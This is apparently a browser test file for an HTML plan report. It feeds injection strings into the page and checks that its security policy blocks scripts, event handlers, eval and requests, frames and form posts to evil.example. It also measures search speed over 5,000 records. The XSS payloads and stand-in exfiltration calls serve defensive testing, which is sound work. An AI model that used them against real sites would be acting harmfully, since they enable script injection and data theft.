import { describe, expect, it } from 'vitest';
import type { Address } from '../../src/model/address.ts';
import { KINDS } from '../../src/model/kind.ts';
import type { Change, Plan } from '../../src/model/plan.ts';
import { planHtml } from '../report/whole.ts';
import { ATTACKS, URLS, withTexts } from '../report/hostile.ts';
import { change, FULL, plan, UNDO } from '../report/sample.ts';
import { describeInChromium, settled, shown } from './chromium.ts';
import { WATCH } from './watch.ts';

const BREACHES = 'addEventListener("securitypolicyviolation", (e) => console.log("breach: " + e.violatedDirective))';

type Forge = (place: number) => string;

describeInChromium('the HTML page, in bad hands', (open) => {
  describe('a name runs nothing, loads nothing, breaks nothing', () => {
    const all = [...ATTACKS, ...URLS];
    const everything: Plan = { ...FULL, undo: UNDO.undo! };

    it.each([
      ['all of them at once', () => all.join(' ')],
      // One attack at each place, another one in each turn.
      ...[0, 1, 2, 3, 4, 5].map((turn): [string, Forge] => [`turn ${turn}`, (n) => all[(n * 7 + turn) % all.length]!]),
    ] as [string, Forge][])('%s', async (_, attack) => {
      let places = 0;
      const { page, noise } = await open(planHtml(withTexts(everything, (text) => `${attack(places++)}${text}`)));
      await page.evaluate(BREACHES);
      await page.getByRole('button', { name: 'Expand all' }).click();
      await page.fill('#search', all.join(' '));
      await settled(page);
      await page.getByRole('button', { name: 'Clear' }).click();
      await page.locator('.record').first().hover();
      await page.emulateMedia({ media: 'print' });
      expect(await page.evaluate('typeof pwned')).toBe('undefined');
      expect(await shown(page)).toBeGreaterThanOrEqual(10);
      expect(await page.locator('#status').textContent()).toBe(`All ${await shown(page)} shown`);
      expect(noise).toEqual([]);
    });

    it('nor does an address', async () => {
      const attack = encodeURIComponent('"><img src=x onerror=pwned=1>');
      const { page, noise } = await open(planHtml(FULL), { hash: `#q=${attack}&rule=${attack}&class=${attack}` });
      await settled(page);
      expect(await page.evaluate('typeof pwned')).toBe('undefined');
      expect(noise).toEqual([]);
    });
  });

  it.each([
    ['a script', 'document.body.append(Object.assign(document.createElement("script"), { text: "pwned = 1" }))'],
    ['markup', 'document.body.innerHTML = "<img src=x onerror=pwned=1>"'],
    ['a handler', 'document.body.setAttribute("onclick", "pwned = 1"); document.body.click()'],
    ['a picture', 'document.body.append(Object.assign(new Image(), { src: "https://evil.example/x.png" }))'],
    ['a style', 'document.body.append(Object.assign(document.createElement("style"), { textContent: "*{}" }))'],
    ['a request', 'fetch("https://evil.example/").catch(() => {})'],
    [
      'a frame',
      'document.body.append(Object.assign(document.createElement("iframe"), { src: "https://evil.example/" }))',
    ],
    [
      'a form',
      'document.body.append(Object.assign(document.createElement("form"), { action: "https://evil.example/" })); document.forms[1].submit()',
    ],
    ['eval', 'setTimeout("pwned = 1")'],
  ])('even inside the page, the policy stops %s', async (_, code) => {
    const { page, noise } = await open(planHtml(FULL));
    await page.evaluate(BREACHES);
    await page.evaluate(`try { ${code} } catch {}`);
    await expect.poll(() => noise.filter((each) => each.includes('breach: ')).length).toBeGreaterThan(0);
    expect(await page.evaluate('typeof pwned')).toBe('undefined');
    expect(noise.filter((each) => each.startsWith('sent: '))).toEqual([]);
  });

  it('5,000 changes: searched, filtered, opened', { timeout: 120_000 }, async ({ annotate }) => {
    const html = planHtml(plan({ changes: MANY }));
    const { page, noise } = await open(html, { viewport: { width: 1280, height: 900 } });
    await page.evaluate(WATCH);
    expect(await page.locator('#status').textContent()).toBe('All 5,000 shown');
    const measure = async (words: string, act: string): Promise<void> => {
      const { took, longest } = await page.evaluate<{ took: number; longest: number }>(`measure(() => { ${act} })`);
      await annotate(`${words}: ${took.toFixed(0)} ms to the next picture, longest task ${longest.toFixed(0)} ms`);
    };
    const type = (text: string): string =>
      `document.querySelector('#search').value = '${text}'; document.querySelector('#filters').dispatchEvent(new Event('input'))`;
    await measure('first search', type('project-49'));
    expect(await shown(page)).toBe(111);
    await measure('next search', type('project-499'));
    expect(await shown(page)).toBe(11);
    await measure('no search', type(''));
    expect(await shown(page)).toBe(5000);
    await measure('one kind', `document.querySelector('[value=role]').click()`);
    expect(await shown(page)).toBe(1000);
    await measure('clear', `document.querySelector('#clear').click()`);
    expect(await shown(page)).toBe(5000);
    await measure('expand all', `document.querySelector('#expand').click()`);
    expect(await page.locator('details.record[open]').count()).toBe(5000);
    await measure('to the end', 'scrollTo(0, document.body.scrollHeight)');
    await measure('collapse all', `document.querySelector('#collapse').click()`);
    expect(await page.locator('details.record[open]').count()).toBe(0);
    await annotate(`the page has ${(html.length / 1e6).toFixed(1)} MB`);
    expect(noise).toEqual([]);
  });
});

const MANY: readonly Change[] = Array.from({ length: 5000 }, (_, index) => {
  const kind = KINDS[index % 5]!;
  return change({ kind, address: `${kind}:${index + 1}/${index + 1}` as Address, label: `Project-${index}` });
});
